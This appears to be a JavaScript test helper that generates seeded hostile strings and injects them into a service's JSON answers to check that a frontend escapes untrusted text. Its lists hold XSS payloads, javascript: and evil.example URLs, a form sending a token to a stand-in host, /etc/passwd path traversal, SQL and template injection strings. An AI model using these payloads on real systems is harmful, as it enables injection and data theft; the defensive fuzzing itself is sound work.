// Hostile texts, and answers of the service in which they take the place of texts and of names of members. They come
// from a seed, so that a failure can be repeated.

/** A generator of numbers below a bound (xorshift32). */
export function numbers(seed) {
  let state = seed | 1;
  return (below) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % below;
  };
}

const MARKUP = [
  "<img src=x data-hostile onerror=alert(1)>", "<script data-hostile>alert(1)</script>", "<b data-hostile>bold</b>",
  "<iframe data-hostile src=javascript:alert(1)></iframe>", "<svg data-hostile onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
  "</span></p></main><h1 data-hostile>Give your token</h1>", "<a data-hostile href=javascript:alert(1)>click</a>",
  "<style>*{display:none}</style>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content=0;url=https://evil.example/>",
  "<!-- ", "-->", "]]>", "<![CDATA[", "&lt;img&gt;", "&#60;script&#62;", "<form data-hostile action=https://evil.example><input name=token>",
  "<template data-hostile><img src=x onerror=alert(1)></template>", "<math><mi xlink:href=javascript:alert(1)>x",
];
const ADDRESSES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)", "//evil.example/x", "https://evil.example/", "http://evil.example/\"onmouseover=alert(1)", "../../../etc/passwd", "?q=x#token=y", "file:///etc/passwd",
  "blob:null/x", "\\\\evil.example\\x", "%00", "%ff%fe", "%", "a/b/c", ".", ".."];
const QUOTES = ["\"", "'", "`", "\" onfocus=alert(1) autofocus=\"", "' onclick='alert(1)", "`code` `", "``", "\\", "\\\"", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "<%= 1 %>", "'; drop table t; --", "\"\"\"", "$&", "$1", "%s%n"];
const MARKS = ["\u202e\u202egnp.exe", "\u2066\u2067\u2068\u2069", "\u200f\u200fשלום\u200f", "مرحبا بالعالم", "\u0000", "a\u0000b", "\ud800", "\udfff", "x\ud83d", "\ufeff", "\u2028\u2029", "\u0007\u001b[31m", "\u0008\u0008", "\r\n\r\n",
  "\t\t", "é́́́́́́́́́́́́́́", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞", "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪", "😀".repeat(50), "ﷺ﷽", "𒐫𒈙⸻", "\u3000\u00a0\u200b\u200c\u200d", "ｆｕｌｌｗｉｄｔｈ"];
const NAMES = ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "then", "length", "innerHTML", "0", "-1", "null", "undefined", "NaN", "true", "id", "name", "", " ", "toJSON", "__defineGetter__"];
const LONG = [() => "W".repeat(10000), () => "x".repeat(9999) + "<img data-hostile src=x>", () => "א".repeat(10000), () => "/".repeat(5000), () => "_".repeat(10000),
  () => "<b data-hostile>".repeat(600), () => "١".repeat(4000), () => "w-".repeat(3000), () => "\u00a0w".repeat(4000), () => "W".repeat(10000)];

/** Returns a source of texts; each is another one. */
export function texts(seed) {
  const below = numbers(seed);
  const of = (list) => list[below(list.length)];
  let made = 0;
  return () => {
    made += 1;
    const kind = below(100);
    if (kind < 4) return of(LONG)();
    const list = kind < 38 ? MARKUP : kind < 54 ? ADDRESSES : kind < 70 ? QUOTES : kind < 86 ? MARKS : NAMES;
    const text = of(list);
    // Bare at times, otherwise another text each time.
    return below(3) === 0 ? text : `${text}${below(2) === 0 ? of(MARKS) : of(QUOTES)}${made}`;
  };
}

const isObject = (value) => value !== null && typeof value === "object" && !Array.isArray(value);

/** Texts that the service itself makes, in a form that nobody else chooses: they do not become hostile in "possible" answers. */
const FIXED = new Set(["contract_id", "tx", "inner_tx", "source_account", "fee_account", "ledger_closed_at", "closed_at", "type", "status", "service", "network", "version", "kind", "change", "durability", "hash",
  "previous_hash", "fee_charged", "address", "u64", "i64", "u128", "i128", "u256", "i256", "timepoint", "duration", "bytes", "contracts", "wasm", "in", "code", "created_at", "next_attempt_at", "last_attempt_at",
  "store_format", "kinds", "amount", "envelope_xdr", "result_xdr", "meta_xdr", "data", "last_attested_at"]);
const isFixedForm = (text) => /^(\d+|[0-9a-f]{16,}|[GCMBL][A-Z2-7]{55,68}|\d{4}-\d\d-\d\dT.*|[A-Za-z0-9+/]{8,}={0,2})$/.test(text);

/** Members that are dictionaries: their names come from outside. */
const DICTIONARIES = new Set(["params", "components", "rows"]);

/**
 * Puts hostile texts into an answer. With `possible`, only where the service can deliver any text; else into every one.
 * Returns the JSON text and the texts.
 */
export function poisoned(answer, text, { possible, below, isTable = false }) {
  const used = [];
  const bad = () => {
    used.push(text());
    return used.at(-1);
  };
  const replaced = (value, name) => {
    if (possible && (FIXED.has(name) || isFixedForm(value))) return value;
    return below(4) === 0 && possible ? value : bad();
  };
  const member = (value, name, depth) => {
    if (typeof value === "string") return JSON.stringify(replaced(value, name));
    if (Array.isArray(value)) return `[${value.map((it) => member(it, name, depth + 1)).join(",")}]`;
    if (!isObject(value)) return JSON.stringify(value);
    const isDictionary = DICTIONARIES.has(name) || (isTable && depth === 1);
    const names = new Set();
    const parts = Object.entries(value).map(([key, inner]) => {
      const renamed = isDictionary && below(2) === 0 ? bad() : key;
      if (names.has(renamed)) return null;
      names.add(renamed);
      return `${JSON.stringify(renamed)}:${member(inner, isDictionary ? "" : key, depth + 1)}`;
    });
    return `{${parts.filter((part) => part !== null).join(",")}}`;
  };
  return { json: member(answer, "", 0), used };
}
